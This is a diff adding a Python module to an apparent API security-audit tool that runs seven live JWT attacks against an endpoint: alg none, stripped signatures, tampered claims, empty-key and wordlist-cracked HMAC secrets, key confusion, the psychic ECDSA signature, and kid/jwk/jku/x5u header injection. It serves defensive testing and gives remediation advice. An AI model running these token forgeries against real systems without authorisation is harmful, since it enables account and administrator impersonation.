@@ -1,0 +1,476 @@
+"""SEC-001–007: live JWT attacks against a protected endpoint, compared with the real token."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import re
+import threading
+import time
+import uuid
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from importlib import resources
+from pathlib import Path
+from typing import Any
+
+from prodaudit.checks.security._common import (
+    HMAC_ALGS,
+    Canary,
+    b64url,
+    canary,
+    forge,
+    known_secret,
+    live_location,
+    parse_jwt,
+    verify_hmac,
+)
+from prodaudit.context import Context
+from prodaudit.http import Exchange
+from prodaudit.model import Finding, Severity
+from prodaudit.outcome import Skip, failed, passed, warned
+from prodaudit.registry import check
+
+REFS = ("CWE-347", "OWASP API2:2023")
+CHECKLIST = ("8.1.1", "1.3.1")
+MAX_REPO_CANDIDATES = 500
+_SECRETISH = re.compile(
+    r"""(?ix)
+    (?P<name>[A-Z0-9_]*(?:SECRET|SIGNING|JWT)[A-Z0-9_]*(?:KEY)?)   # name
+    ["']?\s*(?::\s*[A-Za-z_\[\]| .]+)?\s*(?:=|:|,)\s*           # = or : (type hints allowed)
+    (?:[A-Za-z_.]+\()?                                           # os.getenv( / Field(
+    (?:["'][A-Z0-9_]+["']\s*,\s*)?                               # getenv("NAME", ...
+    (?:default\s*=\s*)?
+    ["']?(?P<value>[^"'\s#,)]{3,200})["']?
+    """
+)
+_REPO_FILES = re.compile(r"(^|/)(\.env[^/]*|[^/]*\.env|settings\.py|config\.py|conf\.py|"
+                         r"docker-compose[^/]*\.ya?ml|compose[^/]*\.ya?ml|[^/]*\.toml|app\.py)$")
+
+
+def _evidence(can: Canary, ex: Exchange, note: str = "") -> str:
+    head = (f"canary: GET {can.url} answers {can.ok.status} to the audit account's token and "
+            f"{can.anon.status} without a token; the forged request below answered {ex.status}.")
+    return "\n".join(x for x in (head, note, ex.evidence()) if x)
+
+
+def _judge(can: Canary, attempts: list[tuple[str, Exchange]], what: str,
+           severity: Severity = Severity.CRITICAL) -> list[Finding]:
+    out: list[Finding] = []
+    for label, ex in attempts:
+        if can.accepted(ex):
+            out.append(failed(f"{what}: the API accepted a token with {label} (HTTP {ex.status}, "
+                              f"same as the real token)", location=live_location(ex),
+                              evidence=_evidence(can, ex), severity=severity))
+        elif ex.status is None:
+            out.append(warned(f"{what}: no answer to the token with {label}: {ex.error}",
+                              location=live_location(ex), evidence=ex.evidence()))
+        elif not can.rejected(ex):
+            out.append(warned(f"{what}: the token with {label} got HTTP {ex.status} instead of "
+                              "401/403", location=live_location(ex), evidence=_evidence(can, ex)))
+    if not out:
+        out.append(passed(f"{what}: all {len(attempts)} forged tokens ({', '.join(a for a, _ in attempts)}) "
+                          f"were rejected with 401/403 on GET {can.url} (the real token gets "
+                          f"{can.ok.status})", location=f"GET {can.url}"))
+    return out
+
+
+async def _try(ctx: Context, can: Canary, variants: list[tuple[str, str]]) -> list[tuple[str, Exchange]]:
+    return [(label, await can.send(ctx, tok)) for label, tok in variants]
+
+
+@check("SEC-001", "JWT with alg none is rejected", severity=Severity.HIGH, needs=("live",),
+       checklist=CHECKLIST, references=REFS)
+async def alg_none(ctx: Context) -> list[Finding]:
+    """Tokens whose header says ``alg: none`` (and the case variants ``None``, ``NONE``, ``nOnE``)
+    with the signature stripped are rejected by a protected endpoint.
+
+    A decoder that honours the token's own ``alg`` header accepts unsigned tokens, so anyone can
+    mint a token for any user or role. The probe reuses the audit account's real claims, so an
+    acceptance is exactly "unsigned token works".
+
+    Remediation: decode with an explicit algorithm allow-list (PyJWT: ``jwt.decode(token, key,
+    algorithms=["HS256"])``) and never branch on the unverified header's ``alg``.
+    """
+    can = await canary(ctx)
+    variants: list[tuple[str, str]] = []
+    for alg in ("none", "None", "NONE", "nOnE"):
+        header = {**can.token.header, "alg": alg}
+        variants.append((f"alg={alg}, empty signature", forge(header, can.token.payload)))
+    header = {**can.token.header, "alg": "none"}
+    variants.append(("alg=none, original signature kept",
+                     forge(header, can.token.payload, signature=can.token.signature_b64)))
+    return _judge(can, await _try(ctx, can, variants), "alg none")
+
+
+@check("SEC-002", "JWT with a stripped or damaged signature is rejected", severity=Severity.HIGH,
+       needs=("live",), checklist=CHECKLIST, references=REFS)
+async def stripped_signature(ctx: Context) -> list[Finding]:
+    """The real token with its signature removed, truncated or altered is rejected.
+
+    Some stacks verify only when a signature is present, or compare a prefix; either lets an
+    attacker drop the signature after editing the claims.
+
+    Remediation: always verify the full signature with the configured key and algorithm; reject
+    tokens that do not have exactly three non-empty parts.
+    """
+    can = await canary(ctx)
+    t = can.token
+    sig = t.signature_b64
+    flipped = ("A" if sig[-1] != "A" else "B") if sig else "A"
+    variants = [
+        ("the signature removed (trailing dot kept)", f"{t.header_b64}.{t.payload_b64}."),
+        ("the signature part missing (two parts)", f"{t.header_b64}.{t.payload_b64}"),
+        ("the signature truncated to half", f"{t.header_b64}.{t.payload_b64}.{sig[: len(sig) // 2]}"),
+        ("the last signature character changed", f"{t.header_b64}.{t.payload_b64}.{sig[:-1]}{flipped}"),
+    ]
+    return _judge(can, await _try(ctx, can, variants), "damaged signature")
+
+
+@check("SEC-003", "JWT with edited claims and the original signature is rejected",
+       severity=Severity.HIGH, needs=("live",), checklist=CHECKLIST, references=REFS)
+async def tampered_payload(ctx: Context) -> list[Finding]:
+    """The real token with a changed subject, role or expiry, but its original signature, is
+    rejected.
+
+    If the signature is not checked against the claims actually sent, any user can become another
+    user or an administrator.
+
+    Remediation: verify the signature over the exact header and payload received; use a maintained
+    JWT library rather than hand-written parsing.
+    """
+    can = await canary(ctx)
+    t = can.token
+    payload = t.payload
+    edits: list[tuple[str, dict[str, Any]]] = []
+    sub = payload.get("sub")
+    if sub is not None:
+        other: Any = str(int(sub) + 1) if str(sub).isdigit() else f"{sub}x"
+        edits.append((f"sub changed to {other!r}", {**payload, "sub": other}))
+    edits.append(("role=admin added", {**payload, "role": "admin", "is_admin": True}))
+    edits.append(("exp pushed one year ahead", {**payload, "exp": int(time.time()) + 365 * 86400}))
+    tokens = [(label, forge(t.header, p, signature=t.signature_b64)) for label, p in edits]
+    return _judge(can, await _try(ctx, can, tokens), "edited claims")
+
+
+@check("SEC-004", "JWT signed with an empty HMAC key is rejected", severity=Severity.HIGH,
+       needs=("live",), checklist=CHECKLIST, references=REFS)
+async def empty_key(ctx: Context) -> list[Finding]:
+    """A token with the real claims, signed HS256/384/512 with an empty key, is rejected.
+
+    An unset secret (``JWT_SECRET=""``) or a library default of ``b""`` makes every token
+    forgeable with the empty key.
+
+    Remediation: refuse to start without a random signing secret of at least 32 bytes.
+    """
+    can = await canary(ctx)
+    variants = []
+    for alg in ("HS256", "HS384", "HS512"):
+        header = {**can.token.header, "alg": alg}
+        variants.append((f"{alg} with an empty key", forge(header, can.token.payload, key=b"")))
+    return _judge(can, await _try(ctx, can, variants), "empty HMAC key")
+
+
+# ---- weak secret ------------------------------------------------------------------------------
+def builtin_wordlist() -> list[str]:
+    text = resources.files("prodaudit.data").joinpath("jwt-secrets.txt").read_text(encoding="utf-8")
+    return [ln.strip() for ln in text.splitlines() if ln.strip() and not ln.lstrip().startswith("#")]
+
+
+def repo_candidates(ctx: Context) -> list[tuple[str, str]]:
+    """(value, where) for every default or placeholder secret-like value in the repository."""
+    out: dict[str, str] = {}
+    try:
+        files = [f for f in ctx.files.files if _REPO_FILES.search(f)]
+    except OSError:
+        return []
+    for rel in files[:400]:
+        text = ctx.read(rel)
+        if not text:
+            continue
+        for lineno, line in enumerate(text.splitlines(), 1):
+            for m in _SECRETISH.finditer(line):
+                val = m.group("value").strip()
+                if val and val not in out and not val.startswith(("$", "{", "os.", "None")):
+                    out[val] = f"{rel}:{lineno}"
+                if len(out) >= MAX_REPO_CANDIDATES:
+                    return list(out.items())
+    return list(out.items())
+
+
+def crack(ctx: Context, token: str) -> tuple[bytes, str] | None:
+    """The HMAC key of ``token`` if it is a known/common/repository-default value (memoised)."""
+
+    def build() -> tuple[bytes, str] | None:
+        tok = parse_jwt(token)
+        if tok is None or tok.alg.upper() not in HMAC_ALGS:
+            return None
+        candidates: list[tuple[str, str]] = [(w, "the built-in list of common secrets")
+                                             for w in builtin_wordlist()]
+        if ctx.cfg.jwt.wordlist is not None and Path(ctx.cfg.jwt.wordlist).is_file():
+            extra = Path(ctx.cfg.jwt.wordlist).read_text(encoding="utf-8", errors="replace")
+            candidates += [(w.strip(), f"the word list {ctx.cfg.jwt.wordlist}")
+                           for w in extra.splitlines()[:100_000] if w.strip()]
+        candidates += [(v, f"a default in {where}") for v, where in repo_candidates(ctx)]
+        for word, source in candidates:
+            if verify_hmac(tok, word.encode()):
+                ctx.redact.register(word)
+                return word.encode(), source
+        return None
+
+    result: tuple[bytes, str] | None = ctx.memo("sec:jwt-crack", build)
+    return result
+
+
+def signing_key(ctx: Context, token: str) -> tuple[bytes, str] | None:
+    """A key that signs the target's tokens: cracked (weak) or given (``jwt.secret_env``)."""
+    cracked = crack(ctx, token)
+    if cracked:
+        return cracked
+    given = known_secret(ctx)
+    tok = parse_jwt(token)
+    if given and tok is not None and verify_hmac(tok, given[0]):
+        return given
+    return None
+
+
+def fresh_claims(payload: dict[str, Any], lifetime: int = 300) -> dict[str, Any]:
+    now = int(time.time())
+    out = dict(payload)
+    out["iat"] = now
+    if "nbf" in out:
+        out["nbf"] = now
+    if "exp" in out:
+        out["exp"] = now + lifetime
+    if "jti" in out:
+        out["jti"] = uuid.uuid4().hex
+    return out
+
+
+@check("SEC-005", "JWT signing secret is not a common or default value", severity=Severity.HIGH,
+       needs=("live",), checklist=CHECKLIST + ("P.3.1",), references=("CWE-521", "CWE-798",
+                                                                      "OWASP API2:2023"))
+async def weak_secret(ctx: Context) -> list[Finding]:
+    """The audit account's HMAC token is verified offline against a built-in list of common
+    secrets, ``jwt.wordlist``, and every default or placeholder secret value found in the target's
+    repository (``.env.example``, settings defaults, compose files). A hit is CRITICAL and is then
+    confirmed live by forging a fresh token for the audit user.
+
+    With the signing secret, an attacker mints tokens for any user and role, offline, forever.
+
+    Remediation: generate the secret with ``python -c "import secrets; print(secrets.token_urlsafe(48))"``,
+    keep it out of the repository, rotate it now (all issued tokens become invalid), and make the
+    application refuse short or placeholder secrets at startup.
+    """
+    can = await canary(ctx)
+    if can.token.alg.upper() not in HMAC_ALGS:
+        return [passed(f"the token is signed with {can.token.alg}, not a shared HMAC secret: no "
+                       "secret to guess (asymmetric attacks: SEC-006)")]
+    words = len(builtin_wordlist())
+    loop = asyncio.get_running_loop()
+    hit = await loop.run_in_executor(None, crack, ctx, can.token.raw)
+    if hit is None:
+        return [passed(f"the {can.token.alg} token resisted {words} common secrets, "
+                       f"{len(repo_candidates(ctx))} repository defaults"
+                       + (" and the configured word list" if ctx.cfg.jwt.wordlist else ""))]
+    key, source = hit
+    forged = forge(can.token.header, fresh_claims(can.token.payload), key=key)
+    ex = await can.send(ctx, forged)
+    live = can.accepted(ex)
+    msg = (f"the JWT signing secret is a guessable value from {source}; "
+           + ("a token forged with it was accepted live" if live
+              else f"a token forged with it got HTTP {ex.status} (live confirmation failed)"))
+    return [failed(msg, location=live_location(ex), evidence=_evidence(
+        can, ex, f"offline: HMAC-{can.token.alg[2:]} of the issued token verifies with the guessed "
+                 "secret (value redacted)"), severity=Severity.CRITICAL)]
+
+
+# ---- asymmetric-key attacks ---------------------------------------------------------------------
+JWKS_PATHS = ("/.well-known/jwks.json", "/jwks.json", "/.well-known/openid-configuration",
+              "/auth/jwks", "/api/jwks.json")
+
+
+async def _public_keys(ctx: Context) -> tuple[list[dict[str, Any]], str]:
+    for path in JWKS_PATHS:
+        ex = await ctx.http.get(ctx.url(path))
+        if ex.status != 200:
+            continue
+        try:
+            data = ex.json()
+        except ValueError:
+            continue
+        if isinstance(data, dict) and isinstance(data.get("jwks_uri"), str):
+            ex = await ctx.http.get(data["jwks_uri"])
+            try:
+                data = ex.json() if ex.status == 200 else {}
+            except ValueError:
+                data = {}
+        keys = data.get("keys") if isinstance(data, dict) else None
+        if isinstance(keys, list) and keys:
+            return [k for k in keys if isinstance(k, dict)], ex.url
+    return [], ""
+
+
+@check("SEC-006", "JWT key-confusion and psychic-signature tokens are rejected",
+       severity=Severity.HIGH, needs=("live",), checklist=CHECKLIST,
+       references=("CWE-347", "CVE-2022-21449", "OWASP API2:2023"))
+async def asymmetric_attacks(ctx: Context) -> list[Finding]:
+    """For RS/ES/PS tokens: an HS256 token signed with the published public key (JWKS) as the
+    HMAC secret (key confusion), and for every target an ES256 token with the all-zero "psychic"
+    signature (CVE-2022-21449), are rejected.
+
+    Libraries that pick the verification routine from the token's ``alg`` use the RSA public key
+    as an HMAC secret; broken ECDSA verifiers accept r = s = 0.
+
+    Remediation: pin the algorithm when decoding, keep the JDK/library patched, and never accept
+    a different algorithm family than the one you issue.
+    """
+    can = await canary(ctx)
+    variants = [("alg ES256 and an all-zero (psychic) signature",
+                 forge({**can.token.header, "alg": "ES256"}, can.token.payload,
+                       signature=b64url(b"\0" * 64)))]
+    note = ""
+    if can.token.alg.upper().startswith(("RS", "ES", "PS")):
+        keys, src = await _public_keys(ctx)
+        if keys:
+            import jwt as pyjwt
+            from cryptography.hazmat.primitives import serialization
+
+            for jwk in keys[:3]:
+                try:
+                    pub = pyjwt.PyJWK(jwk).key
+                    pem = pub.public_bytes(serialization.Encoding.PEM,
+                                           serialization.PublicFormat.SubjectPublicKeyInfo)
+                except (pyjwt.PyJWKError, AttributeError, ValueError):
+                    continue
+                for label, key in (("PEM", pem), ("PEM without newline", pem.rstrip(b"\n"))):
+                    variants.append((f"HS256 signed with the JWKS public key ({label}, {src})",
+                                     forge({**can.token.header, "alg": "HS256"}, can.token.payload,
+                                           key=key)))
+        else:
+            note = " (no JWKS published: key confusion with the public key not attempted)"
+    else:
+        note = f" (tokens are {can.token.alg}: no public key to confuse)"
+    out = _judge(can, await _try(ctx, can, variants), "asymmetric")
+    if note:
+        out = [f if f.status.value != "pass" else passed(f.message + note, location=f.location)
+               for f in out]
+    return out
+
+
+# ---- header injection (kid / jwk / jku / x5u) ------------------------------------------------
+class _KeyServer:
+    """A loopback HTTP server serving our JWKS and certificate; records every fetch."""
+
+    def __init__(self, jwks: bytes, cert_pem: bytes) -> None:
+        hits: list[str] = []
+        self.hits = hits
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 - stdlib API
+                hits.append(self.path)
+                body = jwks if self.path.startswith("/jwks") else cert_pem
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json" if body is jwks
+                                 else "application/x-pem-file")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
+                return
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = int(self.server.server_address[1])
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+
+    @property
+    def base(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+
+@contextmanager
+def _key_server(jwks: bytes, cert_pem: bytes) -> Iterator[_KeyServer]:
+    srv = _KeyServer(jwks, cert_pem)
+    srv.thread.start()
+    try:
+        yield srv
+    finally:
+        srv.server.shutdown()
+        srv.server.server_close()
+
+
+def _attacker_keys() -> tuple[Any, dict[str, Any], bytes]:
+    """An RSA key pair of ours, its JWK and a self-signed certificate for it."""
+    import datetime as dt
+
+    import jwt as pyjwt
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import rsa
+    from cryptography.x509.oid import NameOID
+
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    jwk = json.loads(pyjwt.algorithms.RSAAlgorithm.to_jwk(key.public_key()))
+    jwk.update({"kid": "prodaudit", "use": "sig", "alg": "RS256"})
+    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "prodaudit attacker")])
+    now = dt.datetime.now(dt.UTC)
+    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
+            .public_key(key.public_key()).serial_number(x509.random_serial_number())
+            .not_valid_before(now - dt.timedelta(minutes=5))
+            .not_valid_after(now + dt.timedelta(hours=1)).sign(key, hashes.SHA256()))
+    return key, jwk, cert.public_bytes(serialization.Encoding.PEM)
+
+
+def _rs256(header: dict[str, Any], payload: dict[str, Any], key: Any) -> str:
+    import jwt as pyjwt
+
+    extra = {k: v for k, v in header.items() if k not in ("alg",)}
+    return pyjwt.encode(payload, key, algorithm="RS256", headers=extra)
+
+
+@check("SEC-007", "JWT header injection (kid, jwk, jku, x5u) is rejected", severity=Severity.HIGH,
+       needs=("live",), checklist=CHECKLIST, references=("CWE-347", "CWE-22", "CWE-918",
+                                                         "OWASP API2:2023"))
+async def header_injection(ctx: Context) -> list[Finding]:
+    """Tokens that tell the server which key to use are rejected: ``kid`` pointing by path
+    traversal at an empty file (``/dev/null``) with an empty-key HMAC signature; an embedded
+    ``jwk`` with our own RSA key; ``jku`` and ``x5u`` pointing at a JWKS / certificate we serve on
+    loopback. A fetch of our URL by the target is reported even when the token is rejected
+    (server-side request forgery).
+
+    Remediation: ignore ``jwk``/``jku``/``x5u`` headers, resolve ``kid`` only against a fixed
+    in-memory key set, and pin the algorithm.
+    """
+    can = await canary(ctx)
+    loop = asyncio.get_running_loop()
+    key, jwk, cert_pem = await loop.run_in_executor(None, _attacker_keys)
+    base_h = {k: v for k, v in can.token.header.items() if k not in ("alg", "kid")}
+    claims = fresh_claims(can.token.payload)
+    jwks = json.dumps({"keys": [jwk]}).encode()
+    out: list[Finding] = []
+    with _key_server(jwks, cert_pem) as srv:
+        variants = [
+            ("kid=../../../../../../dev/null and an empty-key HS256 signature",
+             forge({**base_h, "alg": "HS256", "kid": "../../../../../../../dev/null"}, claims,
+                   key=b"")),
+            ("an embedded jwk holding our RSA key",
+             _rs256({**base_h, "kid": "prodaudit", "jwk": {k: v for k, v in jwk.items()
+                                                           if k in ("kty", "n", "e", "kid")}},
+                    claims, key)),
+            (f"jku={srv.base}/jwks.json (our key set)",
+             _rs256({**base_h, "kid": "prodaudit", "jku": f"{srv.base}/jwks.json"}, claims, key)),
+            (f"x5u={srv.base}/cert.pem (our certificate)",
+             _rs256({**base_h, "x5u": f"{srv.base}/cert.pem"}, claims, key)),
+        ]
+        attempts = await _try(ctx, can, variants)
+        await asyncio.sleep(0.2)
+        hits = list(srv.hits)
+    out = _judge(can, attempts, "header injection")
+    if hits:
+        out.append(failed(f"the target fetched our URL(s) {', '.join(hits[:5])} named in a token "
+                          "header (server-side request forgery through jku/x5u)",
+                          location=live_location(attempts[2][1]),
+                          evidence=attempts[2][1].evidence(), severity=Severity.HIGH))
+    return out
